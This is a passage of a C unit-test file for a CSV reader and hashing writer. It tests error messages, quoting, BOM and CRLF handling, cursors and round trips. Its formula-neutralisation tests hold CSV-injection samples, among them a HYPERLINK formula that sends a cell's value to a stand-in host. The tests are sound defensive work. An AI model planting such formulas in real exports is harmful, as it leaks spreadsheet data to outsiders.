/* SPDX-License-Identifier: MIT
 * test_csvio.c: the streaming CSV reader (every error names file, line and
 * column; quoting, BOM, CRLF, blank lines, header mapping) and the hashing,
 * atomically renamed writer (quoting, number formatting, round trips,
 * checksums equal to sha256sum, nothing left behind on abort). */
#include "testutil.h"

#include <math.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include "optimizer/base/csvio.h"
#include "optimizer/base/timeutil.h"

/* ---- a small typed table read through the getters ---- */

enum { C_ID, C_N, C_X, C_T, C_KIND, C_FLAG, C_NOTE, C_NCOLS };
static const struct csv_column thing_cols[] = {
	{ "id", CSV_REQUIRED },   { "n", CSV_REQUIRED },
	{ "x", CSV_REQUIRED },    { "t", CSV_REQUIRED },
	{ "kind", CSV_REQUIRED }, { "flag", 0 },
	{ "note", 0 },
};
static const struct csv_schema thing_schema = { "things.csv", thing_cols,
						C_NCOLS };
static const char *const kinds[] = { "daily", "weekly", "monthly" };

#define HEADER "id,n,x,t,kind,flag,note\n"

struct thing {
	char *id, *note;
	int n, kind;
	double x;
	int64_t t;
	bool flag;
	size_t line;
};

struct things {
	struct thing v[16];
	size_t n;
};

static int load_thing(void *ctx, const struct csv_row *r, struct err *e)
{
	struct things *ts = ctx;
	struct thing t = { 0 };
	const char *id, *note = "(default)";

	t.flag = true;
	t.n = -1;
	if (ts->n == ARRAY_SIZE(ts->v))
		fail_msg("too many rows for the test");
	if (row_str(r, C_ID, 0, &id, e) ||
	    row_int(r, C_N, 0, 1, 10, &t.n, e) ||
	    row_double(r, C_X, 0, 0, 100, &t.x, e) ||
	    row_time(r, C_T, 0, &t.t, e) ||
	    row_enum(r, C_KIND, 0, kinds, 3, &t.kind, e) ||
	    row_bool(r, C_FLAG, ROW_OPTIONAL, &t.flag, e) ||
	    row_str(r, C_NOTE, ROW_OPTIONAL, &note, e))
		return -1;
	t.id = xstrdup(id);
	t.note = xstrdup(note);
	t.line = r->line;
	ts->v[ts->n++] = t;
	return 0;
}

static void things_free(struct things *ts)
{
	for (size_t i = 0; i < ts->n; i++) {
		free(ts->v[i].id);
		free(ts->v[i].note);
	}
	ts->n = 0;
}

/* Writes content to name and reads it as things; returns csv_read's rc.
 * *path is the file's path (caller frees). */
static int read_things(const char *name, const char *content,
		       struct things *ts, char **path, struct err *e)
{
	*path = test_write(name, content);
	memset(ts, 0, sizeof(*ts));
	return csv_read(*path, &thing_schema, load_thing, ts, NULL, e);
}

/* Reads content and expects exactly this exit code and message; the
 * message format gets the file's path as its one %s. */
#define expect_read_error(name, content, msg_fmt)                       \
	do {                                                            \
		struct err e_ = ERR_INIT;                               \
		struct things ts_;                                      \
		char *path_;                                            \
		assert_int_equal(read_things(name, content, &ts_, &path_, \
					     &e_),                      \
				 -1);                                   \
		assert_err(&e_, EXIT_DATAERR, msg_fmt, path_);          \
		things_free(&ts_);                                      \
		free(path_);                                            \
	} while (0)

/* ---- a table of plain strings, for quoting and round trips ---- */

static const struct csv_column text_cols[] = {
	{ "a", CSV_REQUIRED }, { "b", CSV_REQUIRED }, { "c", CSV_REQUIRED },
};
static const struct csv_schema text_schema = { "text.csv", text_cols, 3 };

struct texts {
	char *v[32][3];
	size_t line[32];
	size_t n;
};

static int load_text(void *ctx, const struct csv_row *r, struct err *e)
{
	struct texts *t = ctx;

	(void)e;
	if (t->n == ARRAY_SIZE(t->v))
		fail_msg("too many rows for the test");
	for (int c = 0; c < 3; c++)
		t->v[t->n][c] = xstrdup(r->val[c]);
	t->line[t->n++] = r->line;
	return 0;
}

static void texts_free(struct texts *t)
{
	for (size_t i = 0; i < t->n; i++)
		for (int c = 0; c < 3; c++)
			free(t->v[i][c]);
	t->n = 0;
}

static int read_texts(const char *path, struct texts *t,
		      struct csv_file_info *info, struct err *e)
{
	memset(t, 0, sizeof(*t));
	return csv_read(path, &text_schema, load_text, t, info, e);
}

/* sha256sum's answer for path, run without a shell. */
static void sha256sum(const char *path, char out[SHA256_HEX_LEN])
{
	char buf[256] = { 0 };
	size_t got = 0;
	ssize_t n;
	int fd[2], status = -1;
	pid_t pid;

	assert_int_equal(pipe(fd), 0);
	pid = fork();
	assert_true(pid >= 0);
	if (pid == 0) {
		dup2(fd[1], 1);
		close(fd[0]);
		close(fd[1]);
		execlp("sha256sum", "sha256sum", path, (char *)NULL);
		_exit(127);
	}
	close(fd[1]);
	while ((n = read(fd[0], buf + got, sizeof(buf) - 1 - got)) > 0)
		got += (size_t)n;
	close(fd[0]);
	waitpid(pid, &status, 0);
	assert_int_equal(status, 0);
	assert_true(got > 64 && buf[64] == ' ');
	memcpy(out, buf, 64);
	out[64] = '\0';
}

/* ---- reading ---- */

static void test_csvio__reads_typed_rows(void **state)
{
	struct err e = ERR_INIT;
	struct things ts;
	char *path;

	(void)state;
	assert_int_equal(read_things("typed.csv",
				     HEADER
				     "a1,3,2.5,2026-11-01T08:00:00Z,Weekly,"
				     "FALSE,hello\n"
				     "a2,10,0,2026-11-01T09:30:00+01:30,daily,"
				     "true,\n",
				     &ts, &path, &e),
			 0);
	assert_int_equal(ts.n, 2);
	assert_string_equal(ts.v[0].id, "a1");
	assert_int_equal(ts.v[0].n, 3);
	assert_true(ts.v[0].x == 2.5);
	assert_int_equal(ts.v[0].t, 1793520000);
	assert_int_equal(ts.v[0].kind, 1);
	assert_false(ts.v[0].flag);
	assert_string_equal(ts.v[0].note, "hello");
	assert_int_equal(ts.v[0].line, 2);
	assert_int_equal(ts.v[1].t, 1793520000);
	assert_int_equal(ts.v[1].kind, 0);
	assert_true(ts.v[1].flag);
	assert_string_equal(ts.v[1].note, "(default)"); /* empty optional */
	assert_int_equal(ts.v[1].line, 3);
	things_free(&ts);
	free(path);
}

static void test_csvio__columns_in_any_order_extra_ignored(void **state)
{
	struct err e = ERR_INIT;
	struct things ts;
	char *path;

	(void)state;
	assert_int_equal(
		read_things("order.csv",
			    "Kind,comment,T,note,x,ID,n,FLAG,zzz\n"
			    "monthly,ignored,2026-11-01T08:00:00Z,nb,7.25,b1,"
			    "4,false,\n",
			    &ts, &path, &e),
		0);
	assert_int_equal(ts.n, 1);
	assert_string_equal(ts.v[0].id, "b1");
	assert_int_equal(ts.v[0].n, 4);
	assert_true(ts.v[0].x == 7.25);
	assert_int_equal(ts.v[0].kind, 2);
	assert_false(ts.v[0].flag);
	assert_string_equal(ts.v[0].note, "nb");
	things_free(&ts);
	free(path);
}

static void test_csvio__optional_columns_absent_keep_defaults(void **state)
{
	struct err e = ERR_INIT;
	struct things ts;
	char *path;

	(void)state;
	assert_int_equal(read_things("noopt.csv",
				     "id,n,x,t,kind\n"
				     "c1,1,1,2026-11-01T08:00:00Z,daily\n",
				     &ts, &path, &e),
			 0);
	assert_int_equal(ts.n, 1);
	assert_true(ts.v[0].flag);
	assert_string_equal(ts.v[0].note, "(default)");
	things_free(&ts);
	free(path);
}

static void test_csvio__bad_time(void **state)
{
	(void)state;
	expect_read_error("badtime.csv",
			  HEADER "a,1,1,2026-11-01T08:00:00Z,daily,,\n"
				 "b,1,1,2026-11-01 08:00,daily,,\n",
			  "%s:3: column 't': expected an ISO 8601 UTC time "
			  "such as 2026-11-01T08:00:00Z, got "
			  "'2026-11-01 08:00'");
	/* a time without a zone is not UTC by contract */
	expect_read_error("naive.csv",
			  HEADER "b,1,1,2026-11-01T08:00:00,daily,,\n",
			  "%s:2: column 't': expected an ISO 8601 UTC time "
			  "such as 2026-11-01T08:00:00Z, got "
			  "'2026-11-01T08:00:00'");
}

static void test_csvio__bad_number(void **state)
{
	(void)state;
	expect_read_error("badnum.csv",
			  HEADER "a,1,\"1,5\",2026-11-01T08:00:00Z,daily,,\n",
			  "%s:2: column 'x': expected a decimal number from 0 "
			  "to 100, got '1,5'");
	expect_read_error("badint.csv",
			  HEADER "a,2.0,1,2026-11-01T08:00:00Z,daily,,\n",
			  "%s:2: column 'n': expected an integer from 1 to "
			  "10, got '2.0'");
	expect_read_error("nan.csv",
			  HEADER "a,2,nan,2026-11-01T08:00:00Z,daily,,\n",
			  "%s:2: column 'x': expected a decimal number from 0 "
			  "to 100, got 'nan'");
}

static void test_csvio__number_out_of_range(void **state)
{
	(void)state;
	expect_read_error("range.csv",
			  HEADER "a,11,1,2026-11-01T08:00:00Z,daily,,\n",
			  "%s:2: column 'n': expected an integer from 1 to "
			  "10, got '11'");
	expect_read_error("range2.csv",
			  HEADER "a,1,100.01,2026-11-01T08:00:00Z,daily,,\n",
			  "%s:2: column 'x': expected a decimal number from 0 "
			  "to 100, got '100.01'");
	expect_read_error("range3.csv",
			  HEADER "a,1,-1,2026-11-01T08:00:00Z,daily,,\n",
			  "%s:2: column 'x': expected a decimal number from 0 "
			  "to 100, got '-1'");
}

static void test_csvio__required_value_empty(void **state)
{
	(void)state;
	expect_read_error("emptyval.csv",
			  HEADER "a,,1,2026-11-01T08:00:00Z,daily,,\n",
			  "%s:2: column 'n': expected an integer from 1 to "
			  "10, got ''");
	expect_read_error("emptyid.csv",
			  HEADER ",1,1,2026-11-01T08:00:00Z,daily,,\n",
			  "%s:2: column 'id': expected a value, got ''");
}

static void test_csvio__unknown_enum_lists_allowed_values(void **state)
{
	(void)state;
	expect_read_error("enum.csv",
			  HEADER "a,1,1,2026-11-01T08:00:00Z,hourly,,\n",
			  "%s:2: column 'kind': expected one of daily, weekly, "
			  "monthly, got 'hourly'");
	expect_read_error("bool.csv",
			  HEADER "a,1,1,2026-11-01T08:00:00Z,daily,yes,\n",
			  "%s:2: column 'flag': expected true or false, got "
			  "'yes'");
}

static void test_csvio__long_value_shortened_in_message(void **state)
{
	(void)state;
	expect_read_error("long.csv",
			  HEADER "a,1,1,2026-11-01T08:00:00Z,"
				 "abcdefghijklmnopqrstuvwxyz"
				 "abcdefghijklmnopqrstuvwxyz"
				 "abcdefghijklmnopqrstuvwxyz,,\n",
			  "%s:2: column 'kind': expected one of daily, weekly, "
			  "monthly, got 'abcdefghijklmnopqrstuvwxyzabcdefghijkl"
			  "mnopqrstuvwxyzabcdefgh...'");
}

static void test_csvio__missing_required_column(void **state)
{
	(void)state;
	expect_read_error("nocol.csv",
			  "id,n,x,kind\na,1,1,daily\n",
			  "%s:1: missing required column 't' in the header");
	/* the header's line is named even after blank lines */
	expect_read_error("nocol2.csv", "\n\nid,n,t,kind,x2\n",
			  "%s:3: missing required column 'x' in the header");
}

static void test_csvio__duplicate_column(void **state)
{
	(void)state;
	expect_read_error("dup.csv",
			  "id,n,x,t,kind,N\na,1,1,2026-11-01T08:00:00Z,daily,"
			  "2\n",
			  "%s:1: column 'N' appears twice in the header");
}

static void test_csvio__short_and_long_rows(void **state)
{
	(void)state;
	expect_read_error("short.csv",
			  HEADER "a,1,1,2026-11-01T08:00:00Z,daily,,\n"
				 "b,1,1,2026-11-01T08:00:00Z,daily,\n",
			  "%s:3: expected 7 fields as in the header, found 6");
	expect_read_error("long.csv",
			  HEADER "a,1,1,2026-11-01T08:00:00Z,daily,,\n"
				 "\n"
				 "b,1,1,2026-11-01T08:00:00Z,daily,,,\n",
			  "%s:4: expected 7 fields as in the header, found 8");
	/* a last row without its newline is still checked */
	expect_read_error("shortlast.csv", HEADER "a,1",
			  "%s:2: expected 7 fields as in the header, found 2");
}

static void test_csvio__empty_file(void **state)
{
	(void)state;
	expect_read_error("empty.csv", "",
			  "%s:1: empty file: expected a header row");
	expect_read_error("blank.csv", "\n\r\n\n",
			  "%s:1: empty file: expected a header row");
	expect_read_error("bomonly.csv", "\xEF\xBB\xBF",
			  "%s:1: empty file: expected a header row");
}

static void test_csvio__header_only_is_zero_rows(void **state)
{
	struct err e = ERR_INIT;
	struct csv_file_info info;
	struct texts t;
	char *path = test_write("headeronly.csv", "a,b,c\r\n");

	(void)state;
	assert_int_equal(read_texts(path, &t, &info, &e), 0);
	assert_int_equal(t.n, 0);
	assert_int_equal(info.rows, 0);
	assert_int_equal(info.bytes, 7);
	free(path);
}

static void test_csvio__missing_file(void **state)
{
	struct err e = ERR_INIT;
	struct texts t;
	char *path = test_path("does-not-exist.csv");

	(void)state;
	assert_int_equal(read_texts(path, &t, NULL, &e), -1);
	assert_err(&e, EXIT_NOINPUT,
		   "cannot open '%s': No such file or directory", path);
	free(path);
}

static void test_csvio__unterminated_quote_at_eof(void **state)
{
	(void)state;
	/* the message names the line where the open field starts */
	expect_read_error("unterm1.csv",
			  HEADER "a,1,1,2026-11-01T08:00:00Z,daily,,\n"
				 "\"b,1,1,2026-11-01T08:00:00Z,daily,,\n",
			  "%s:3: malformed CSV: a quoted field is not closed "
			  "before the end of the file");
	expect_read_error("unterm2.csv",
			  HEADER "a,1,1,2026-11-01T08:00:00Z,daily,,\n"
				 "b,1,1,2026-11-01T08:00:00Z,daily,,\"open\n"
				 "more\nlines\n",
			  "%s:3: malformed CSV: a quoted field is not closed "
			  "before the end of the file");
	/* after a closed multi-line field of the same row */
	expect_read_error("unterm3.csv",
			  HEADER "a,1,1,2026-11-01T08:00:00Z,daily,\"x\n"
				 "y\",\"open\n"
				 "more\n",
			  "%s:3: malformed CSV: a quoted field is not closed "
			  "before the end of the file");
}

static void test_csvio__quote_inside_unquoted_field(void **state)
{
	(void)state;
	expect_read_error("quote.csv",
			  HEADER "a,1,1,2026-11-01T08:00:00Z,daily,,\n"
				 "b,1,1,2026-11-01T08:00:00Z,daily,,"
				 "say \"hi\"\n",
			  "%s:3: malformed CSV (error parsing data while "
			  "strict checking enabled): a quote inside an "
			  "unquoted field, or text after a closing quote");
	expect_read_error("after.csv",
			  HEADER "\"a\"x,1,1,2026-11-01T08:00:00Z,daily,,\n",
			  "%s:2: malformed CSV (error parsing data while "
			  "strict checking enabled): a quote inside an "
			  "unquoted field, or text after a closing quote");
}

/* A file whose row 2 (line 3) has a second field of n bytes, quoted, and
 * closed or not. */
static char *write_huge_field(const char *name, size_t n, int closed)
{
	char *path = test_path(name);
	FILE *f = fopen(path, "wb");
	char chunk[4096];

	assert_non_null(f);
	memset(chunk, 'x', sizeof(chunk));
	fputs("a,b,c\n1,2,3\n4,\"", f);
	for (size_t done = 0; done < n; done += sizeof(chunk))
		fwrite(chunk, 1, sizeof(chunk), f);
	fputs(closed ? "\",6\n" : "\n", f);
	fclose(f);
	return path;
}

static void test_csvio__huge_field_refused(void **state)
{
	struct err e = ERR_INIT;
	struct texts t;
	char *path;

	(void)state;
	path = write_huge_field("huge-closed.csv", 3u << 20, 1);
	assert_int_equal(read_texts(path, &t, NULL, &e), -1);
	assert_err(&e, EXIT_DATAERR,
		   "%s:3: field 2 is longer than 1048576 bytes", path);
	texts_free(&t);
	free(path);
	/* an unclosed quote does not make the reader hold the whole rest of
	 * the file: the same limit stops it */
	err_clear(&e);
	path = write_huge_field("huge-open.csv", 3u << 20, 0);
	assert_int_equal(read_texts(path, &t, NULL, &e), -1);
	assert_err(&e, EXIT_DATAERR,
		   "%s:3: field 2 is longer than 1048576 bytes", path);
	texts_free(&t);
	free(path);
}

static void test_csvio__embedded_quotes_and_newlines(void **state)
{
	struct err e = ERR_INIT;
	struct texts t;
	char *path = test_write("embedded.csv",
				"a,b,c\n"
				"\"say \"\"hi\"\"\",\"two\nlines\",x\n"
				"\"\"\"\",\"three\n\nlines\",\"\"\n"
				"plain,\"crlf\r\ninside\",z\n"
				"last,row,here\n");

	(void)state;
	assert_int_equal(read_texts(path, &t, NULL, &e), 0);
	assert_int_equal(t.n, 4);
	assert_string_equal(t.v[0][0], "say \"hi\"");
	assert_string_equal(t.v[0][1], "two\nlines");
	assert_int_equal(t.line[0], 2);
	assert_string_equal(t.v[1][0], "\"");
	assert_string_equal(t.v[1][1], "three\n\nlines");
	assert_string_equal(t.v[1][2], "");
	assert_int_equal(t.line[1], 4);
	assert_string_equal(t.v[2][1], "crlf\r\ninside");
	assert_int_equal(t.line[2], 7);
	assert_int_equal(t.line[3], 9);
	texts_free(&t);
	free(path);
}

/* A NUL byte would cut a field short where C reads it ("12\0 34" read as
 * 12): it is refused, quoted or not, naming the line the field starts
 * on and the field. */
static void test_csvio__nul_byte_refused(void **state)
{
	static const char plain[] = "a,b,c\n1,2,3\n4,5\0x,6\n";
	static const char quoted[] = "a,b,c\n1,2,3\n\n7,8,\"a\nb\0\"\n";
	const char *text[] = { plain, quoted };
	size_t len[] = { sizeof(plain) - 1, sizeof(quoted) - 1 };
	const char *where[] = { "3: field 2", "4: field 3" };

	(void)state;
	for (int i = 0; i < 2; i++) {
		struct err e = ERR_INIT;
		struct texts t;
		char *path = test_path(i ? "nul-q.csv" : "nul.csv");
		FILE *f = fopen(path, "wb");

		assert_non_null(f);
		assert_int_equal(fwrite(text[i], 1, len[i], f), len[i]);
		fclose(f);
		assert_int_equal(read_texts(path, &t, NULL, &e), -1);
		assert_err(&e, EXIT_DATAERR, "%s:%s holds a NUL byte", path,
			   where[i]);
		texts_free(&t);
		free(path);
	}
}

static void test_csvio__line_numbers_after_multiline_fields(void **state)
{
	(void)state;
	/* row 1 spans lines 2-4; the bad value is on line 5 */
	expect_read_error("multi.csv",
			  HEADER "a,1,1,2026-11-01T08:00:00Z,daily,,\"x\n"
				 "y\n"
				 "z\"\n"
				 "b,99,1,2026-11-01T08:00:00Z,daily,,\n",
			  "%s:5: column 'n': expected an integer from 1 to "
			  "10, got '99'");
	expect_read_error("multi2.csv",
			  HEADER "a,1,1,2026-11-01T08:00:00Z,daily,,\"x\r\n"
				 "y\"\r\n"
				 "\r\n"
				 "b,1,1,2026-11-01T08:00:00Z,daily\r\n",
			  "%s:5: expected 7 fields as in the header, found 5");
	expect_read_error("multi3.csv",
			  HEADER "a,1,1,2026-11-01T08:00:00Z,daily,,\"x\n"
				 "y\"\n"
				 "b,1,1,2026-11-01T08:00:00Z,daily,,a\"b\n",
			  "%s:4: malformed CSV (error parsing data while "
			  "strict checking enabled): a quote inside an "
			  "unquoted field, or text after a closing quote");
}

/* Rows without the word (any case) are skipped unsplit, quoted line
 * ends and all (the row after one is found), and counted; line numbers
 * and checksums stay those of the whole file. */
static void test_csvio__read_kept_skips_refused_rows(void **state)
{
	char *path = test_write(
		"kept.csv",
		"a,b,c\r\n"
		"1,keep,x\r\n"
		"2,\"skip\r\nkeep,\"\"quoted\"\"\",y\r\n"
		"\r\n"
		"3,keep,\"z\"\r\n"
		"4,no,\"a\r\n8,x,y\"\r\n"
		"5,no,w\r\n"
		"6,keep,\"last\"");
	struct texts t;
	struct csv_file_info info, all;
	struct err e = ERR_INIT;
	uint64_t skipped = 0;
	(void)state;

	memset(&t, 0, sizeof(t));
	assert_int_equal(csv_read_kept(path, &text_schema, "keep",
				       load_text, &t, &info, &skipped, &e),
			 0);
	assert_int_equal(skipped, 2);
	/* row 2 is kept (its quoted field holds "keep"); row 4 is skipped
	 * whole, its quoted line end starting no row */
	assert_int_equal(t.n, 4);
	assert_string_equal(t.v[0][0], "1");
	assert_string_equal(t.v[1][1], "skip\r\nkeep,\"quoted\"");
	assert_int_equal(t.line[2], 6);
	assert_string_equal(t.v[2][0], "3");
	assert_string_equal(t.v[3][0], "6");
	assert_int_equal(t.line[3], 10);
	texts_free(&t);
	assert_int_equal(read_texts(path, &t, &all, &e), 0);
	assert_int_equal(info.rows, all.rows);
	assert_int_equal(info.rows, 6);
	assert_string_equal(info.sha256, all.sha256);
	texts_free(&t);
	free(path);
}

/* A file read with a word is mapped, not read: rows kept after the
 * pages behind them were given back, and a last row without a line end
 * that fills the file's last page exactly (the scanner's NUL and wide
 * loads past it land on the mapping's padding). */
static void test_csvio__read_kept_maps_long_files(void **state)
{
	struct strbuf sb = STRBUF_INIT;
	struct texts t;
	struct err e = ERR_INIT;
	uint64_t skipped = 0;
	size_t rows = 0, fill;
	char *path;

	(void)state;
	strbuf_adds(&sb, "a,b,c\n");
	for (; sb.len < (20u << 20); rows++)
		strbuf_adds(&sb, "x,no,\"a row of another service\"\n");
	strbuf_adds(&sb, "1,keep,mid\n");
	strbuf_adds(&sb, "2,KEEP,");
	fill = 4096 - sb.len % 4096;
	for (size_t i = 0; i < fill; i++)
		strbuf_addch(&sb, 'z');
	assert_int_equal(sb.len % 4096, 0);
	path = test_write("mapped.csv", sb.buf);
	memset(&t, 0, sizeof(t));
	assert_int_equal(csv_read_kept(path, &text_schema, "keep", load_text,
				       &t, NULL, &skipped, &e),
			 0);
	assert_int_equal(skipped, rows);
	assert_int_equal(t.n, 2);
	assert_string_equal(t.v[0][2], "mid");
	assert_int_equal(t.line[0], rows + 2);
	assert_string_equal(t.v[1][0], "2");
	assert_int_equal(strlen(t.v[1][2]), fill);
	assert_int_equal(t.line[1], rows + 3);
	texts_free(&t);
	strbuf_release(&sb);
	free(path);
}

static void test_csvio__bom_crlf_and_blank_lines(void **state)
{
	static const char content[] =
		"\xEF\xBB\xBF" "a,b,c\r\n"
		"\r\n"
		"1,2,3\r\n"
		"\r\n"
		"\r\n"
		"4,\"5\r\n5\",6\r\n"
		"7,8,9";
	struct err e = ERR_INIT;
	struct csv_file_info info;
	char sum[SHA256_HEX_LEN];
	struct texts t;
	char *path = test_write("bom.csv", content);

	(void)state;
	assert_int_equal(read_texts(path, &t, &info, &e), 0);
	assert_int_equal(t.n, 3);
	assert_string_equal(t.v[0][0], "1");
	assert_string_equal(t.v[0][2], "3");
	assert_int_equal(t.line[0], 3);
	assert_string_equal(t.v[1][1], "5\r\n5");
	assert_int_equal(t.line[1], 6);
	assert_string_equal(t.v[2][2], "9");
	assert_int_equal(t.line[2], 8);
	/* the checksum covers the bytes as stored, BOM included */
	assert_int_equal(info.rows, 3);
	assert_int_equal(info.bytes, sizeof(content) - 1);
	sha256sum(path, sum);
	assert_string_equal(info.sha256, sum);
	texts_free(&t);
	free(path);
}

/* A cursor read from where csv_cursor_at stood before a row reads that
 * row and the rest again, on the same lines, quoted line ends, CRLF and
 * blank lines included; moved to any other byte, it goes on from the
 * next place where a row could end (after a CR, or an LF not after a
 * CR). */
static void test_csvio__cursor_reads_again_from_any_row(void **state)
{
	static const char content[] = "a,b,c\r\n"
				      "\r\n"
				      "1,2,3\r\n"
				      "4,\"5\r\n5\",6\r\n"
				      "\n"
				      "7,8,9\n"
				      "10,11,12";
	struct err e = ERR_INIT;
	struct csv_row row;
	uint64_t at[8];
	size_t line[8], n = 0, l;
	char *path = test_write("cursor.csv", content);
	struct csv_cursor *c = csv_cursor_open(path, &text_schema, &e);

	(void)state;
	assert_non_null(c);
	for (;; n++) {
		at[n] = csv_cursor_at(c, &line[n]);
		if (csv_cursor_next(c, &row, &e) != 1)
			break;
	}
	assert_int_equal(n, 4);
	assert_int_equal(at[n], sizeof(content) - 1);
	assert_int_equal(line[n], 8);
	for (size_t i = 0; i < n; i++) {
		static const char *const first[] = { "1", "4", "7", "10" };
		static const size_t lines[] = { 3, 4, 7, 8 };
		assert_int_equal(csv_cursor_seek(c, at[i], line[i], &e), 0);
		for (size_t j = i; j < n; j++) {
			assert_int_equal(csv_cursor_next(c, &row, &e), 1);
			assert_string_equal(row.val[0], first[j]);
			assert_int_equal(row.line, lines[j]);
		}
		assert_int_equal(csv_cursor_next(c, &row, &e), 0);
	}
	for (uint64_t x = 1; x < sizeof(content); x++) {
		uint64_t want = x;
		while (want < sizeof(content) - 1 &&
		       content[want - 1] != '\r' &&
		       (content[want - 1] != '\n' ||
			(want > 1 && content[want - 2] == '\r')))
			want++;
		assert_int_equal(csv_cursor_seek(c, x, 1, &e), 0);
		assert_int_equal(csv_cursor_at(c, &l), want);
		assert_int_equal(l, 1);
	}
	/* a line start inside a quoted field is no row's start */
	assert_int_equal(csv_cursor_seek(c, 18, 1, &e), 0);
	assert_int_equal(csv_cursor_next(c, &row, &e), -1);
	csv_cursor_close(c);
	free(path);
}

static void test_csvio__spaces_kept_only_when_quoted(void **state)
{
	struct err e = ERR_INIT;
	struct texts t;
	char *path = test_write("spaces.csv",
				"a , b,c\n"
				" x ,\" y \",\"\tz\"\n");

	(void)state;
	assert_int_equal(read_texts(path, &t, NULL, &e), 0);
	assert_int_equal(t.n, 1);
	assert_string_equal(t.v[0][0], "x");
	assert_string_equal(t.v[0][1], " y ");
	assert_string_equal(t.v[0][2], "\tz");
	texts_free(&t);
	free(path);
}

/* ---- writing ---- */

static char *write_texts(const char *name, const char *const (*rows)[3],
			 size_t n, struct csv_file_info *info)
{
	struct err e = ERR_INIT;
	char *path = test_path(name);
	struct csv_writer *w = csv_writer_open(path, &text_schema, &e);

	assert_non_null(w);
	for (size_t i = 0; i < n; i++) {
		for (int c = 0; c < 3; c++)
			csv_put(w, rows[i][c]);
		csv_end_row(w);
	}
	assert_int_equal(csv_writer_commit(w, info, &e), 0);
	return path;
}

static void test_csvio__writer_quotes_what_needs_it(void **state)
{
	static const char *const rows[][3] = {
		{ "plain", "a,b", "say \"hi\"" },
		{ "cr\rlf", "line\nbreak", "" },
		{ " lead", "trail ", "\ttab" },
		{ "in side", "\"", NULL },
	};
	char *path = write_texts("quoted.csv", rows, ARRAY_SIZE(rows), NULL);
	char *text = test_read(path);

	(void)state;
	assert_string_equal(text,
			    "a,b,c\r\n"
			    "plain,\"a,b\",\"say \"\"hi\"\"\"\r\n"
			    "\"cr\rlf\",\"line\nbreak\",\r\n"
			    "\" lead\",\"trail \",\"'\ttab\"\r\n"
			    "in side,\"\"\"\",\r\n");
	free(text);
	free(path);
}

/* OWASP's CSV injection rule: what a spreadsheet would run gets an
 * apostrophe; numbers, and text that merely contains the characters, do
 * not. */
static const char *const formulas[][3] = {
	{ "=HYPERLINK(\"http://x/?\"&A1,\"x\")", "+1+2", "-2+3" },
	{ "@SUM(A1)", "\tcmd", "\rcmd" },
	{ "-42", "+1.5", "-1e5" },
	{ "'=already", "''", "'plain" },
	{ "a=b", "-", "'" },
};

static void test_csvio__writer_neutralises_formulas(void **state)
{
	struct err e = ERR_INIT;
	struct texts t;
	char *path = write_texts("formulas.csv", formulas,
				 ARRAY_SIZE(formulas), NULL);
	char *text = test_read(path);

	(void)state;
	assert_string_equal(text,
			    "a,b,c\r\n"
			    "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"x\"\")\","
			    "'+1+2,'-2+3\r\n"
			    "'@SUM(A1),\"'\tcmd\",\"'\rcmd\"\r\n"
			    "-42,+1.5,-1e5\r\n"
			    "''=already,''','plain\r\n"
			    "a=b,'-,'\r\n");
	/* the reader takes the apostrophe off: every value comes back */
	assert_int_equal(read_texts(path, &t, NULL, &e), 0);
	assert_int_equal(t.n, ARRAY_SIZE(formulas));
	for (size_t i = 0; i < t.n; i++)
		for (int c = 0; c < 3; c++)
			assert_string_equal(t.v[i][c], formulas[i][c]);
	texts_free(&t);
	free(text);
	free(path);
}

static void test_csvio__writer_raw_writes_cells_as_they_are(void **state)
{
	char *path, *text;

	(void)state;
	csv_set_raw(true);
	path = write_texts("raw.csv", formulas, 2, NULL);
	csv_set_raw(false);
	text = test_read(path);
	assert_string_equal(text,
			    "a,b,c\r\n"
			    "\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"x\"\")\","
			    "+1+2,-2+3\r\n"
			    "@SUM(A1),\"\tcmd\",\"\rcmd\"\r\n");
	free(text);
	free(path);
}

static void test_csvio__writer_numbers_and_empty_values(void **state)
{
	static const struct csv_column cols[] = {
		{ "v", 0 },
	};
	static const struct csv_schema one = { "one.csv", cols, 1 };
	struct err e = ERR_INIT;
	char *path = test_path("numbers.csv");
	struct csv_writer *w = csv_writer_open(path, &one, &e);
	char *text;

	(void)state;
	assert_non_null(w);
	csv_put_double(w, -0.0, 2);
	csv_end_row(w);
	csv_put_double(w, -0.001, 2);
	csv_end_row(w);
	csv_put_double(w, -0.4, 0);
	csv_end_row(w);
	csv_put_double(w, -1e-12, 4);
	csv_end_row(w);
	csv_put_double(w, -0.25, 2);
	csv_end_row(w);
	csv_put_double(w, 1234.5678, 2);
	csv_end_row(w);
	csv_put_double(w, NAN, 2);
	csv_end_row(w);
	csv_put_time(w, TIME_NONE);
	csv_end_row(w);
	csv_put_time(w, 1793520000);
	csv_end_row(w);
	csv_put_long(w, -42);
	csv_end_row(w);
	csv_put_bool(w, true);
	csv_end_row(w);
	csv_put_bool(w, false);
	csv_end_row(w);
	csv_putf(w, "%s-%d", "x,y", 7);
	csv_end_row(w);
	assert_int_equal(csv_writer_commit(w, NULL, &e), 0);
	text = test_read(path);
	assert_string_equal(text, "v\r\n"
				  "0.00\r\n"
				  "0.00\r\n"
				  "0\r\n"
				  "0.0000\r\n"
				  "-0.25\r\n"
				  "1234.57\r\n"
				  "\r\n"
				  "\r\n"
				  "2026-11-01T08:00:00Z\r\n"
				  "-42\r\n"
				  "true\r\n"
				  "false\r\n"
				  "\"x,y-7\"\r\n");
	free(text);
	free(path);
}

static void test_csvio__write_read_round_trip(void **state)
{
	static const char *const rows[][3] = {
		{ "", " ", "  both  " },
		{ "a,b", "\"", "\"\"" },
		{ "line1\nline2", "cr\r\nlf", "\r" },
		{ "tab\there", "\ttab", "trailing\t" },
		{ "ünïcødé ✓", "quote \" in middle", ",,," },
		{ "\n", "\"start", "end\"" },
		{ "after", "the", "tricky" },
	};
	struct err e = ERR_INIT;
	struct csv_file_info winfo, rinfo;
	struct texts t;
	char *path = write_texts("roundtrip.csv", rows, ARRAY_SIZE(rows),
				 &winfo);

	(void)state;
	assert_int_equal(read_texts(path, &t, &rinfo, &e), 0);
	assert_int_equal(t.n, ARRAY_SIZE(rows));
	for (size_t i = 0; i < t.n; i++)
		for (int c = 0; c < 3; c++)
			assert_string_equal(t.v[i][c], rows[i][c]);
	/* lines: the header, then rows of 1, 1, 3, 1, 1, 2 lines */
	assert_int_equal(t.line[0], 2);
	assert_int_equal(t.line[3], 7);
	assert_int_equal(t.line[6], 11);
	assert_int_equal(winfo.rows, rinfo.rows);
	assert_string_equal(winfo.sha256, rinfo.sha256);
